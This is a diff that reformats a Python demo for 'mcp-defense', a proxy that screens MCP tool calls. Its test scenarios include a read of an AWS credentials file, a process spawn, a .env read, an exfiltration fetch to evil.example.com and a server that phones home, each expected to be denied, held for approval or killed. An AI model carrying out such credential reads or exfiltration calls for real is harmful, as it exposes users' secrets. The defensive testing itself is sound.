@@ -52,18 +52,38 @@ def scenarios(ws: Path) -> list[Scenario]:
     ends the filesystem server)."""
     return [
         Scenario("allowed read", "filesystem", "read_file", {"path": str(ws / "main.py")}, "allow"),
-        Scenario("crown-jewel read", "filesystem", "read_file",
-                 {"path": "/home/alice/.aws/credentials"}, "deny"),
-        Scenario("spawn a process", "filesystem", "exec_command",
-                 {"command": "ls /"}, "deny"),
-        Scenario(".env read", "filesystem", "read_file",
-                 {"path": str(ws / "app" / ".env.local")}, "require_approval"),
-        Scenario("exfiltration fetch", "filesystem", "fetch",
-                 {"url": "https://evil.example.com/exfil"}, "deny"),
-        Scenario("GitHub API fetch", "github", "fetch",
-                 {"url": "https://api.github.com/repos/x/y"}, "allow"),
-        Scenario("server phones home", "filesystem", "summarize",
-                 {"path": str(ws / "notes.md")}, "kill"),
+        Scenario(
+            "crown-jewel read",
+            "filesystem",
+            "read_file",
+            {"path": "/home/alice/.aws/credentials"},
+            "deny",
+        ),
+        Scenario("spawn a process", "filesystem", "exec_command", {"command": "ls /"}, "deny"),
+        Scenario(
+            ".env read",
+            "filesystem",
+            "read_file",
+            {"path": str(ws / "app" / ".env.local")},
+            "require_approval",
+        ),
+        Scenario(
+            "exfiltration fetch",
+            "filesystem",
+            "fetch",
+            {"url": "https://evil.example.com/exfil"},
+            "deny",
+        ),
+        Scenario(
+            "GitHub API fetch",
+            "github",
+            "fetch",
+            {"url": "https://api.github.com/repos/x/y"},
+            "allow",
+        ),
+        Scenario(
+            "server phones home", "filesystem", "summarize", {"path": str(ws / "notes.md")}, "kill"
+        ),
     ]
 
 
@@ -119,9 +139,25 @@ def _proxy_params(archetype: str, ws: Path, record: Path, env: dict[str, str]) -
     from mcp.client.stdio import StdioServerParameters
 
     server = examples_dir() / "servers" / "demo_server.py"
-    args = ["-m", "mcp_defense", "stdio", "--archetype", archetype, "--agent-id", "demo",
-            "--set", f"workspace={ws}", "--record", str(record), "--flow-source", "procfs",
-            "--", sys.executable, str(server), str(ws)]
+    args = [
+        "-m",
+        "mcp_defense",
+        "stdio",
+        "--archetype",
+        archetype,
+        "--agent-id",
+        "demo",
+        "--set",
+        f"workspace={ws}",
+        "--record",
+        str(record),
+        "--flow-source",
+        "procfs",
+        "--",
+        sys.executable,
+        str(server),
+        str(ws),
+    ]
     return StdioServerParameters(command=sys.executable, args=args, env=env, cwd=str(ws))
 
 
@@ -160,8 +196,9 @@ async def _client_task(params: Any, errlog: IO[str], jobs: Any, ready: anyio.Eve
                 done(await _call(client, sc))
 
 
-async def _drive(plan: list[Scenario], params: dict[str, Any],
-                 errlogs: dict[str, IO[str]]) -> list[Outcome]:
+async def _drive(
+    plan: list[Scenario], params: dict[str, Any], errlogs: dict[str, IO[str]]
+) -> list[Outcome]:
     """Start one client per archetype at once, then run the scenarios one by one."""
     outcomes: list[Outcome] = []
     with anyio.fail_after(DEMO_TIMEOUT_S):
@@ -199,9 +236,12 @@ def _timeline(recordings: list[Path]) -> list[Event]:
     for rec in recordings:
         if rec.exists():
             events.extend(e for _, e in read_recording(rec) if isinstance(e, Event))
-    starts = sorted((e for e in events if isinstance(e, SessionStart)),
-                    key=lambda e: ARCHETYPES.index(e.archetype)
-                    if e.archetype in ARCHETYPES else len(ARCHETYPES))
+    starts = sorted(
+        (e for e in events if isinstance(e, SessionStart)),
+        key=lambda e: (
+            ARCHETYPES.index(e.archetype) if e.archetype in ARCHETYPES else len(ARCHETYPES)
+        ),
+    )
     rest = sorted((e for e in events if not isinstance(e, SessionStart)), key=lambda e: e.ts)
     return grouped([*starts, *rest])
 
@@ -214,16 +254,21 @@ def run_demo(console: Console | None = None) -> int:
         ws = _workspace(root)
         beacon = _Beacon()
         stack.callback(beacon.close)
-        env = {**os.environ, "MCPD_DEMO_BEACON": f"{beacon.host}:{beacon.port}",
-               "MCPD_STATE_DIR": str(root / "state")}
+        env = {
+            **os.environ,
+            "MCPD_DEMO_BEACON": f"{beacon.host}:{beacon.port}",
+            "MCPD_STATE_DIR": str(root / "state"),
+        }
         recs = {a: root / f"{a}.jsonl" for a in ARCHETYPES}
         logs = {a: root / f"{a}.stderr" for a in ARCHETYPES}
         errlogs = {a: stack.enter_context(logs[a].open("w")) for a in ARCHETYPES}
         params = {a: _proxy_params(a, ws, recs[a], env) for a in ARCHETYPES}
         plan = scenarios(ws)
-        console.print(f"[bold]mcp-defense demo[/]: {len(plan)} scenarios, a real MCP server "
-                      "behind `mcp-defense stdio --flow-source procfs` (one proxy per "
-                      "archetype)\n")
+        console.print(
+            f"[bold]mcp-defense demo[/]: {len(plan)} scenarios, a real MCP server "
+            "behind `mcp-defense stdio --flow-source procfs` (one proxy per "
+            "archetype)\n"
+        )
         failure = ""
         try:
             outcomes = anyio.run(_drive, plan, params, errlogs)
@@ -260,17 +305,26 @@ def _kill_checked(sc_call: ToolCallEvent | None, events: list[Event], beacon_hit
     if sc_call is None or sc_call.decision != "allow" or not beacon_hits:
         return sc_call.decision if sc_call else "—"
     cid = sc_call.correlation_id
-    flow = any(isinstance(e, FlowEvent) and cid in e.correlation_ids and e.verdict == "kill"
-               for e in events)
-    kill = any(isinstance(e, KillEvent) and cid in e.correlation_ids and not e.survivors
-               for e in events)
+    flow = any(
+        isinstance(e, FlowEvent) and cid in e.correlation_ids and e.verdict == "kill"
+        for e in events
+    )
+    kill = any(
+        isinstance(e, KillEvent) and cid in e.correlation_ids and not e.survivors for e in events
+    )
     return "kill" if flow and kill else "allow (not killed)"
 
 
-def _verdict(console: Console, plan: list[Scenario], outcomes: list[Outcome],
-             events: list[Event], beacon_hits: int) -> int:
-    calls = {(e.archetype, e.tool, repr(e.arguments)): e
-             for e in events if isinstance(e, ToolCallEvent)}
+def _verdict(
+    console: Console,
+    plan: list[Scenario],
+    outcomes: list[Outcome],
+    events: list[Event],
+    beacon_hits: int,
+) -> int:
+    calls = {
+        (e.archetype, e.tool, repr(e.arguments)): e for e in events if isinstance(e, ToolCallEvent)
+    }
     t = Table(title="scenarios", title_justify="left", show_edge=False)
     for col in ("#", "scenario", "expected", "got", "client saw"):
         t.add_column(col, no_wrap=True)
@@ -284,19 +338,28 @@ def _verdict(console: Console, plan: list[Scenario], outcomes: list[Outcome],
         else:
             got = ev.decision if ev else "—"
             # allowed calls must reach the server; refused ones must be refused to the client
-            good = got == sc.expect and (seen.ok if sc.expect == "allow" else
-                                         seen.decision == sc.expect)
+            good = got == sc.expect and (
+                seen.ok if sc.expect == "allow" else seen.decision == sc.expect
+            )
         shown = _SHORT.get(got, got)
         if ev is not None and ev.approval:
             shown += f"→{ev.approval}"
         ok &= good
-        t.add_row(str(i + 1), sc.title, _SHORT.get(sc.expect, sc.expect),
-                  f"[{'green' if good else 'red'}]{shown}[/]", seen.text)
+        t.add_row(
+            str(i + 1),
+            sc.title,
+            _SHORT.get(sc.expect, sc.expect),
+            f"[{'green' if good else 'red'}]{shown}[/]",
+            seen.text,
+        )
     console.print()
     console.print(t)
-    console.print("[bold green]demo ok[/]: every decision matches the published demo, and the "
-                  "server that phoned home was killed" if ok else
-                  "[bold red]demo failed[/]: see the rows in red")
+    console.print(
+        "[bold green]demo ok[/]: every decision matches the published demo, and the "
+        "server that phoned home was killed"
+        if ok
+        else "[bold red]demo failed[/]: see the rows in red"
+    )
     return 0 if ok else 1
 
 
